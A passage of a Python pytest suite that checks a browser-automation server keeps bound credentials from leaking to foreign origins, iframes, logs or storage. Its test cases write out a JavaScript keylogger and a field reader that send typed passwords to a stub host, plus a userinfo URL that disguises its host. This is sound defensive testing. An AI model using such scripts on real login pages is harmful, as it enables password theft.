def test_row114_secret_driven_control_flow_is_refused_at_save(world: World, case: str) -> None:
    use = {"id": "s", "type": "utility.log", **ROW114[case], "parameters": {"message": "hi"}}
    assert_refused_save(world.roles["user"], unique(f"row114_{case}"), playbook(case, [use]))


# -- row 117: the credential bound to the stub itself ----------------------------------------------


@pytest.mark.parametrize("page", ["localhost", "userinfo", "exact"])
def test_row117_origin_is_matched_exactly(world: World, page: str) -> None:
    port = world.other.port
    prefix = f"/row117-{page}/"
    urls = {
        "localhost": f"http://localhost:{port}{prefix}login",
        "userinfo": f"http://127.0.0.1:{port}@127.0.0.1:{world.far.port}{prefix}login",
        "exact": f"http://127.0.0.1:{port}{prefix}login",
    }
    forms_117 = {"stub-bound password": ALL_SECRETS["stub-bound password"]}
    before = marks(world)
    detail = world.roles["executor"].run(
        {
            "playbook_path": "browser/login_form_check.yaml",
            "parameters": {
                "login": "stub-bound",
                "login_url": urls[page],
                "success_text": "Welcome",
                "timeout": 5,
            },
        }
    )
    steps = {s["step_id"]: s for s in detail["step_results"]}
    if page == "exact":
        assert detail["status"] == "completed", json.dumps(detail)[-3000:]
        posted = [
            r
            for r in world.other.since(before[0])
            if r.method == "POST" and r.path.startswith(prefix)
        ]
        assert posted, "the form was not submitted"
        assert f"password={quote_plus(SECRET_117)}".encode() in posted[-1].body
        assert leaks(posted[-1].raw(), forms_117), "the detector missed the allowed delivery"
        assert not leaks(world.far.raw_since(before[1]), forms_117)
    else:
        assert detail["status"] == "failed", json.dumps(detail)[-3000:]
        error = steps["password"]["error"]
        assert steps["password"]["status"] == "failed" and error["code"] == "validation_error"
        assert "credential 'stub-bound'" in error["message"], error
        shown = "http://localhost" if page == "localhost" else f"127.0.0.1:{world.far.port}"
        assert shown in error["message"], error
        reached = world.other.since(before[0]) + world.far.since(before[1])
        assert [r for r in reached if r.path.startswith(prefix)], "the page was never opened"
        for stub, mark in zip((world.other, world.far), before, strict=True):
            assert not leaks(stub.raw_since(mark), forms_117), (page, stub.url)
            assert not [
                r for r in stub.since(mark) if r.method == "POST" and r.path.startswith(prefix)
            ], (page, stub.url)
    assert_other_got_nothing(world, before, f"row 117 {page}")


# -- SR-21 in the browser: the element's own document, and no JavaScript beside a typed secret ------

BOUND_PW = "{{ credential['stub-bound'].password }}"


def _session_case(case: str, other: str, far: str) -> tuple[list[dict[str, Any]], str, str]:
    """(steps, the step that must fail, what its message must name)."""
    prefix = f"/sr21-{case}"
    fill = step("fill", "browser.fill", selector="input[type=password]", value=BOUND_PW, timeout=5)
    if case == "evaluate-then-fill":  # a key logger first, then the secret typed under it
        logger = (
            "document.querySelector('input[type=password]').addEventListener('input', "
            f"e => fetch('{far}{prefix}/keys?v=' + encodeURIComponent(e.target.value))); true"
        )
        steps = [
            navigate(f"{other}{prefix}/login"),
            step("js", "browser.evaluate", expression=logger),
            fill,
            submit(),
        ]
        return steps, "fill", "browser.evaluate"
    if case == "fill-then-evaluate":  # the secret typed on its own origin, then read back by JS
        reader = (
            f"fetch('{far}{prefix}/steal?v=' + "
            "encodeURIComponent(document.querySelector('input[type=password]').value))"
        )
        steps = [
            navigate(f"{other}{prefix}/login"),
            fill,
            step("js", "browser.evaluate", expression=reader),
        ]
        return steps, "js", "typed"
    # A frame from `far` inside a page of the bound origin: the element's document decides.
    framed = step(
        "fill",
        "browser.fill",
        selector="#framed >> internal:control=enter-frame >> input[type=password]",
        value=BOUND_PW,
        timeout=10,
    )
    host = f"{other}{prefix}/frame-host?src={quote(f'{far}{prefix}/login', safe='')}"
    return [navigate(host), framed, submit()], "fill", far


@pytest.mark.parametrize("case", ["evaluate-then-fill", "fill-then-evaluate", "cross-origin-frame"])
def test_sr21_typed_secret_is_confined_to_its_document_and_kept_from_javascript(
    world: World, case: str
) -> None:
    steps, failing, named = _session_case(case, world.other_origin, world.far.url)
    path = unique(f"sr21_{case}")
    saved = world.roles["user"].save(path, playbook(f"SR-21 {case}", steps))
    assert saved.status_code in (200, 201), saved.text
    before = marks(world)
    detail = world.roles["executor"].run({"playbook_path": path})
    assert detail["status"] == "failed", json.dumps(detail)[-3000:]
    results = {s["step_id"]: s for s in detail["step_results"]}
    assert results[failing]["status"] == "failed", results
    error = results[failing]["error"]
    assert error["code"] == "validation_error", error
    assert named in error["message"], error
    forms_117 = {"stub-bound password": ALL_SECRETS["stub-bound password"]}
    for stub, mark in zip((world.other, world.far), before, strict=True):
        assert not leaks(stub.raw_since(mark), forms_117), (case, stub.url)
        assert not [
            r for r in stub.since(mark) if r.method == "POST" and r.path.startswith(f"/sr21-{case}")
        ]
    if case == "cross-origin-frame":
        assert [
            r for r in world.far.since(before[1]) if r.path.startswith(f"/sr21-{case}/login")
        ], "the frame was never loaded (the case is void)"
    assert_other_got_nothing(world, before, f"SR-21 {case}")


# -- the exfiltration matrix ------------------------------------------------------------------------
#
# (a) every shipped playbook with a credential parameter, and (b) every step parameter that accepts a
# secret, each run by the executor and by the user role and aimed at `other`. The runs are all
# started at once by a module fixture when the first matrix case runs (the server queues what
# exceeds its concurrency), so their browsers overlap; each case's URLs on `other` carry the case's
# own path prefix, so what `other` got is told apart per case.


def _slug(text: str) -> str:
    return re.sub(r"[^A-Za-z0-9]+", "-", text).strip("-")


def _shipped_arguments(world: World, spec: list[dict[str, Any]], prefix: str) -> dict[str, Any]:
    arguments: dict[str, Any] = {}
    for parameter in spec:
        name, kind = parameter["name"], parameter["type"]
        lowered = name.lower()
        if kind == "credential":
            arguments[name] = CRED
        elif kind == "string" and ("url" in lowered or "gateway" in lowered):
            arguments[name] = f"{world.other_origin}{prefix}/{name}"
        elif lowered == "timeout":
            arguments[name] = 5
        elif parameter.get("required") and "default" not in parameter:
            arguments[name] = {
                "string": "Welcome",
                "file": world.module_path,
                "integer": 5,
                "float": 1.0,
                "boolean": True,
            }[kind]
    return arguments


def _child_path() -> str:
    return "confine/child_fill.yaml"


def _sink_fill(ref: str) -> list[dict[str, Any]]:
    return [step("sink", "browser.fill", selector="input[type=password]", value=ref, timeout=5)]


def _sink_type(ref: str) -> list[dict[str, Any]]:
    return [step("sink", "browser.type", selector="input[type=password]", text=ref, timeout=5)]


def _sink_perspective_fill(ref: str) -> list[dict[str, Any]]:
    return [
        step(
            "sink",
            "perspective.fill",
            locator={"path": "C.0:1"},
            value=ref,
            commit="none",
            timeout=5,
        )
    ]


def _sink_playbook_run(ref: str) -> list[dict[str, Any]]:
    return [step("sink", "playbook.run", playbook=_child_path(), parameters={"pw": ref})]


SINK_BUILDERS = {
    "browser.fill:value": _sink_fill,
    "browser.type:text": _sink_type,
    "perspective.fill:value": _sink_perspective_fill,
    "playbook.run:parameters.*": _sink_playbook_run,
}

CHILD = playbook(
    "Child: fill a secret parameter into the page the parent opened",
    [
        step(
            "fill",
            "browser.fill",
            selector="input[type=password]",
            value="{{ parameter.pw }}",
            timeout=5,
        ),
        step("submit", "browser.click", selector="button[type=submit]", timeout=5),
    ],
    parameters=[{"name": "pw", "type": "string", "secret": True, "required": True}],
)


@dataclass
class MatrixRun:
    api: Api
    execution_id: str
    prefix: str  # every URL of the case on `other` starts with it

    def requests(self, world: World) -> list[Any]:
        return [r for r in world.other.since(0) if r.path.startswith(self.prefix + "/")]


SHIPPED_CASES = [(p, r) for p in CREDENTIAL_PLAYBOOKS for r in ROLES]
# The password by both roles; the api_token (the same binding, another field) by the executor.
SINK_CASES = [
    (s, f, r)
    for s in SINKS
    for f in sorted(FIELDS)
    for r in ROLES
    if f == "password" or r == "executor"
]


@pytest.fixture(scope="module")
def matrix(world: World) -> dict[tuple[str, ...], MatrixRun]:
    user = world.roles["user"]
    saved = user.save(_child_path(), CHILD)
    assert saved.status_code in (200, 201), saved.text
    runs: dict[tuple[str, ...], MatrixRun] = {}
    for playbook_path, role in SHIPPED_CASES:
        api = world.roles[role]
        prefix = f"/a-{_slug(playbook_path)}-{role}"
        spec = api.get(f"/api/playbooks/{playbook_path}").json()["parameters"]
        started = api.start(
            {
                "playbook_path": playbook_path,
                "parameters": _shipped_arguments(world, spec, prefix),
                "gateway_url": world.other_origin + prefix,
            }
        )
        assert started.status_code == 202, started.text
        runs[(playbook_path, role)] = MatrixRun(api, started.json()["execution_id"], prefix)
    for sink, secret_field, role in SINK_CASES:
        builder = SINK_BUILDERS.get(sink)
        if builder is None:
            continue  # test_the_matrix_covers_... and the case itself fail for it
        prefix = f"/b-{_slug(sink)}-{secret_field}-{role}"
        doc = playbook(
            f"Matrix {sink} {secret_field}",
            [
                navigate(f"{world.other_origin}{prefix}/login"),
                *builder(FIELDS[secret_field]),
                submit(),
            ],
        )
        path = unique(f"matrix_{sink}_{secret_field}_{role}")
        saved = user.save(path, doc)
        assert saved.status_code in (200, 201), saved.text  # whole, to a writeOnly parameter
        started = world.roles[role].start({"playbook_path": path})
        assert started.status_code == 202, started.text
        runs[(sink, secret_field, role)] = MatrixRun(
            world.roles[role], started.json()["execution_id"], prefix
        )
    return runs


def _assert_refused_at_other(world: World, run: MatrixRun, detail: dict[str, Any]) -> None:
    assert detail["status"] == "failed", json.dumps(detail)[-3000:]
    reached = run.requests(world)
    assert reached, f"nothing reached `other` under {run.prefix} (the case is void)"
    messages = binding_messages(detail)
    assert messages, f"no refusal names the binding: {json.dumps(errors_of(detail))[-2000:]}"
    assert world.other_origin in messages[0], messages
    assert not [r for r in reached if r.method == "POST"], "the form was submitted to `other`"
    found = leaks(b"\n".join(r.raw() for r in reached), PLANT_SECRETS)
    assert not found, f"`other` received {found} under {run.prefix}"


@pytest.mark.parametrize(("playbook_path", "role"), SHIPPED_CASES)
def test_matrix_shipped_playbook_aimed_at_other(
    world: World, matrix: dict[tuple[str, ...], MatrixRun], playbook_path: str, role: str
) -> None:
    api = world.roles[role]
    # Naming plant-gw as the execution's credential with another gateway is refused at the start.
    spec = api.get(f"/api/playbooks/{playbook_path}").json()["parameters"]
    refused = api.start(
        {
            "playbook_path": playbook_path,
            "parameters": _shipped_arguments(world, spec, "/refused"),
            "credential_name": CRED,
            "gateway_url": world.other_origin,
        }
    )
    assert refused.status_code == 400, refused.text
    assert refused.json()["detail"]["error"] == "validation_error"
    assert BINDING in refused.json()["detail"]["message"], refused.text
    # Chosen through the credential parameter instead, with the run's gateway on `other`.
    run = matrix[(playbook_path, role)]
    _assert_refused_at_other(world, run, api.wait(run.execution_id, timeout=150))


@pytest.mark.parametrize(("sink", "secret_field", "role"), SINK_CASES)
def test_matrix_secret_sink_aimed_at_other(
    world: World,
    matrix: dict[tuple[str, ...], MatrixRun],
    sink: str,
    secret_field: str,
    role: str,
) -> None:
    assert sink in SINK_BUILDERS, f"no exfiltration case for the secret sink {sink}"
    run = matrix[(sink, secret_field, role)]
    detail = run.api.wait(run.execution_id, timeout=150)
    steps = {s["step_id"]: s for s in detail["step_results"]}
    assert steps["open"]["status"] == "completed", steps["open"]
    assert steps["sink"]["status"] == "failed", steps["sink"]
    _assert_refused_at_other(world, run, detail)


@pytest.mark.parametrize("role", ROLES)
def test_start_parameters_are_values_not_templates(
    world: World, matrix: dict[tuple[str, ...], MatrixRun], role: str
) -> None:
    """Secret parameters given at the start are taken as they are: a template there is text, so
    naming plant-gw in one types the template's own text, never the credential's secret."""
    prefix = f"/start-parameters-{role}"
    path = unique(f"start_param_{role}")
    saved = world.roles["user"].save(
        path,
        playbook(
            "Types secret parameters into `other`",
            [
                navigate(f"{world.other_origin}{prefix}/login"),
                step(
                    "u",
                    "browser.fill",
                    selector="input[name=username]",
                    value="{{ parameter.a }}",
                    timeout=5,
                ),
                step(
                    "p",
                    "browser.fill",
                    selector="input[type=password]",
                    value="{{ parameter.b }}",
                    timeout=5,
                ),
                submit(),
            ],
            parameters=[
                {"name": "a", "type": "string", "secret": True, "required": True},
                {"name": "b", "type": "string", "secret": True, "required": True},
            ],
        ),
    )
    assert saved.status_code in (200, 201), saved.text
    detail = world.roles[role].run(
        {"playbook_path": path, "parameters": {"a": PW, "b": TOKEN}}, timeout=150
    )
    assert detail["status"] in ("completed", "failed"), detail
    reached = [r for r in world.other.since(0) if r.path.startswith(prefix + "/")]
    assert reached, "the page on `other` was never opened"
    found = leaks(b"\n".join(r.raw() for r in reached), PLANT_SECRETS)
    assert not found, f"`other` received {found}"


# -- everything the module produced ----------------------------------------------------------------


def test_zz_no_secret_in_responses_frames_database_or_log(world: World) -> None:
    """Runs last: every response, WebSocket message, stub request, DATA_DIR byte and log line of the
    whole module."""
    time.sleep(0.5)  # the last WebSocket messages and the WAL
    problems: dict[str, list[str]] = {}
    assert RESPONSES, "no API response was kept"
    problems["API responses"] = leaks(b"\n".join(RESPONSES), ALL_SECRETS)
    updates = [m for m in world.ws_messages if '"execution_update"' in m]
    assert updates, f"the WebSocket viewer saw no updates: {world.ws_messages[-3:]}"
    problems["WebSocket messages"] = leaks("\n".join(world.ws_messages).encode(), ALL_SECRETS)
    problems["requests to other"] = leaks(world.other.raw_since(0), PLANT_SECRETS)
    problems["requests to far"] = leaks(world.far.raw_since(0), ALL_SECRETS)
    database = sorted(world.data_dir.glob("itk.sqlite3*"))
    assert database, "no SQLite file in DATA_DIR"
    for path in sorted(p for p in world.data_dir.rglob("*") if p.is_file()):
        found = leaks(path.read_bytes(), ALL_SECRETS)
        if zipfile.is_zipfile(path):  # traces and other zipped artifacts: their members too
            with zipfile.ZipFile(path) as archive:
                for member in archive.namelist():
                    found += [f"{member}: {f}" for f in leaks(archive.read(member), ALL_SECRETS)]
        if found:
            problems[str(path.relative_to(world.data_dir))] = found
    log = world.server.output()
    assert "DEBUG" in log, "the server did not log at DEBUG"
    problems["server log"] = leaks(log.encode(), ALL_SECRETS)
    lines = [line[:300] for line in log.splitlines() if leaks(line.encode(), ALL_SECRETS)][:5]
    assert not {k: v for k, v in problems.items() if v}, (
        {k: v for k, v in problems.items() if v},
        lines,
    )
